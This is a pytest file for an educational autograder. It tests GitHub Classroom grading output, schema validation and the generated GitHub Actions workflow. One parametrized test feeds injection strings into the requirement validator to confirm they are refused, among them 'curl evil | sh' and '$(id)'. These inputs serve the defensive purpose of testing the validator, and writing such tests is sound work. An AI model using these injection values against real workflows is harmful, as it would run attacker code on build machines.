"""GitHub Classroom: the runner result that the grading reporter reads, and the workflow."""

from __future__ import annotations

import base64
import json
import shutil
import subprocess
import sys
from pathlib import Path

import jsonschema
import pytest
import yaml
from click.testing import CliRunner

from grader.cli import main
from grader.delivery.github import check_requirement, with_extra, workflow

from .conftest import EXERCISES, REPO, SOLUTIONS, solution_source

SCHEMA = json.loads((REPO / "grader" / "schemas" / "classroom-result.schema.json").read_text())
VERSION_REQUIREMENT = "la4ml==0.1.0"


def reporter_total(result: dict) -> tuple[float, float]:
    """What notify-classroom.js posts to Classroom: the tests' scores out of max_score."""
    return sum(test["score"] for test in result["tests"]), result["max_score"]


def classroom(*args) -> dict:
    completed = CliRunner().invoke(
        main, ["grade", *map(str, args), "--format", "classroom", "--no-history"]
    )
    assert completed.exit_code == 0, completed.output
    result = json.loads(completed.output)
    jsonschema.validate(result, SCHEMA)
    return result


def test_solutions_pass_with_every_point_weighted_per_function(course):
    result = classroom("1", "2", "-w", SOLUTIONS)
    assert result["version"] == 1 and result["status"] == "pass"
    assert reporter_total(result) == (30.0, 30.0)
    points = {
        f"Part {p.number} · {f.name}": f.points
        for n in (1, 2)
        for p in [course.part(n)]
        for f in p.functions
    }
    assert {t["name"]: t["score"] for t in result["tests"]} == points
    assert len(set(points.values())) > 1  # functions are not worth the same: not an equal split


def test_a_partial_submission_scores_its_weighted_share(tmp_path, course):
    source = solution_source("part01_vectors") + "\n\ndef add(u, v):\n    return u\n"
    (tmp_path / "part01_vectors.py").write_text(source)
    result = classroom("1", "-w", tmp_path)
    assert result["status"] == "fail"
    tests = {t["name"]: t for t in result["tests"]}
    add = tests["Part 1 · add"]
    assert add["status"] == "fail" and add["score"] < course.part(1).function("add").points
    assert add["message"].startswith("test_add") and "Hint: " in add["message"]
    assert tests["Part 1 · centroid"]["status"] == "pass"
    total, maximum = reporter_total(result)
    assert maximum == 14 and 14 - 2 <= total < 14
    assert add["filename"].endswith("part01_vectors.py") and add["test_code"] == "la4ml grade 1"


def test_stubs_fail_with_zero_points_and_say_not_started():
    result = classroom("-w", EXERCISES)
    assert result["status"] == "fail" and reporter_total(result) == (0.0, 318.0)
    assert all(t["message"].startswith("Not started") for t in result["tests"])


def test_the_reporter_can_decode_what_the_workflow_stores():
    """The workflow stores base64 of the report; the reporter decodes it as UTF-8 JSON."""
    report = classroom("1", "-w", EXERCISES)
    encoded = base64.b64encode(json.dumps(report, ensure_ascii=False).encode()).decode()
    assert json.loads(base64.b64decode(encoded).decode("utf-8")) == report


def test_the_schema_rejects_a_test_without_a_numeric_score():
    bad = {
        "version": 1,
        "status": "pass",
        "max_score": 1,
        "tests": [{"name": "a", "status": "pass", "message": ""}],
    }
    with pytest.raises(jsonschema.ValidationError):
        jsonschema.validate(bad, SCHEMA)


# ---------------------------------------------------------------- the workflow


def load_workflow(text: str) -> dict:
    document = yaml.safe_load(text)
    assert isinstance(document, dict)
    return document


def test_the_workflow_installs_grades_and_reports_to_the_step_it_names():
    document = load_workflow(workflow((1, 2, 3)))
    assert set(document["on"]) >= {"push"}
    assert document["permissions"]["checks"] == "write"
    (job,) = document["jobs"].values()
    assert job["name"] == "Autograding Tests"  # the check run notify-classroom.js looks for
    steps = job["steps"]
    install = next(s for s in steps if s.get("name") == "Install la4ml")
    assert install["run"] == f'python -m pip install "{VERSION_REQUIREMENT}"'
    grade = next(s for s in steps if s.get("id"))
    assert grade["run"].startswith("la4ml grade 1 2 3 --format classroom --output ")
    assert "result=$(base64 -w 0 " in grade["run"] and "$GITHUB_OUTPUT" in grade["run"]
    reporter = steps[-1]
    assert reporter["uses"].startswith("classroom-resources/autograding-grading-reporter@")
    runner = reporter["with"]["runners"]
    assert runner == grade["id"]
    assert reporter["env"] == {
        f"{runner.upper()}_RESULTS": f"${{{{ steps.{runner}.outputs.result }}}}"
    }


def test_the_workflow_passes_schemastores_workflow_schema(tmp_path):
    checker = shutil.which("check-jsonschema", path=str(Path(sys.executable).parent))
    if checker is None:
        pytest.skip("check-jsonschema is not installed: pip install -e '.[dev]'")
    path = tmp_path / "classroom.yml"
    path.write_text(workflow((1,)))
    completed = subprocess.run(
        [checker, "--builtin-schema", "vendor.github-workflows", str(path)],
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert completed.returncode == 0, completed.stdout + completed.stderr
    broken = tmp_path / "broken.yml"
    broken.write_text(workflow((1,)).replace("runs-on:", "runs_on:"))
    rejected = subprocess.run(
        [checker, "--builtin-schema", "vendor.github-workflows", str(broken)],
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert rejected.returncode != 0


def test_the_workflow_passes_actionlint(tmp_path):
    actionlint = shutil.which("actionlint")
    if actionlint is None:
        pytest.skip(
            "actionlint is not installed (no PyPI wheel or Debian package for it): "
            "go install github.com/rhysd/actionlint/cmd/actionlint@latest"
        )
    path = tmp_path / ".github" / "workflows" / "classroom.yml"
    path.parent.mkdir(parents=True)
    path.write_text(workflow((1, 2)))
    completed = subprocess.run(
        [actionlint, str(path)], capture_output=True, text=True, timeout=120
    )
    assert completed.returncode == 0, completed.stdout


def test_la4ml_autograder_github_writes_the_workflow_and_never_replaces_one(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    first = CliRunner().invoke(main, ["autograder", "github", "--parts", "1-2"])
    assert first.exit_code == 0, first.output
    path = tmp_path / ".github" / "workflows" / "classroom.yml"
    assert "la4ml grade 1 2 --format classroom" in path.read_text()
    path.write_text("# edited by the instructor\n")
    again = CliRunner().invoke(main, ["autograder", "github"])
    assert again.exit_code == 2 and "already exists: add --force" in again.output
    assert path.read_text() == "# edited by the instructor\n"
    forced = CliRunner().invoke(main, ["autograder", "github", "--force"])
    assert forced.exit_code == 0
    assert "la4ml grade --format classroom" in path.read_text()


@pytest.mark.parametrize(
    "requirement",
    [
        "la4ml==1.0",
        "la4ml>=0.1",
        "la4ml @ git+https://github.com/org/la4ml@v1.0",
        "la4ml[docs]==1",
    ],
)
def test_plain_requirements_are_accepted(requirement):
    assert check_requirement(requirement) == requirement


@pytest.mark.parametrize(
    "requirement",
    ['la4ml==1"; curl evil | sh; "', "numpy==1", "la4ml==1\nrun: x", "la4ml", "la4ml==1 $(id)"],
)
def test_requirements_that_could_break_the_workflow_are_refused(
    requirement, tmp_path, monkeypatch
):
    monkeypatch.chdir(tmp_path)
    result = CliRunner().invoke(main, ["autograder", "github", "--requirement", requirement])
    assert result.exit_code == 2 and "is not a requirement for la4ml" in result.output
    assert list(tmp_path.iterdir()) == []


def test_the_docs_extra_is_added_to_a_requirement():
    assert with_extra("la4ml==1.0", "docs") == "la4ml[docs]==1.0"
    assert with_extra("la4ml @ git+https://x/y@v1", "docs") == "la4ml[docs] @ git+https://x/y@v1"
